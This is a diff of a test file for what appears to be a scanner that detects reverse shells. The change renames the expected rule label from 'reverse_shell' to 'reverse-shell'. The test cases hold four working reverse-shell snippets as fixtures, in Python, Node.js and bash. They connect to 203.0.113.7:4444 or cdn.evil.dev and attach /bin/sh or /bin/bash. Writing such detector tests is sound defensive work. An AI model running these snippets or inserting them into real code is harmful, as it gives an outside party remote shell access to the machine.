@@ -5,19 +5,19 @@ test.each([
   [
     "a.py",
     'import socket, os, subprocess\ns = socket.socket()\ns.connect(("203.0.113.7", 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])',
-    ["block reverse_shell:4", "block reverse_shell:5"],
+    ["block reverse-shell:4", "block reverse-shell:5"],
   ],
   [
     "a.py",
     'import socket, pty\ns = socket.create_connection(("cdn.evil.dev", 443))\npty.spawn("/bin/bash")',
-    ["block reverse_shell:3"],
+    ["block reverse-shell:3"],
   ],
   [
     "a.js",
     'const net = require("net");\nconst { spawn } = require("child_process");\nconst sh = spawn("/bin/sh", []);\nconst c = net.connect(4444, "203.0.113.7", () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });',
-    ["block reverse_shell:3"],
+    ["block reverse-shell:3"],
   ],
-  ["a.py", 'import os\nos.system("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")', ["block reverse_shell:2"]],
+  ["a.py", 'import os\nos.system("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")', ["block reverse-shell:2"]],
 ])("finds a shell on a connection in %s: %s", async (path, code, expected) => {
   expect(await found(path, code)).toStrictEqual(expected);
 });
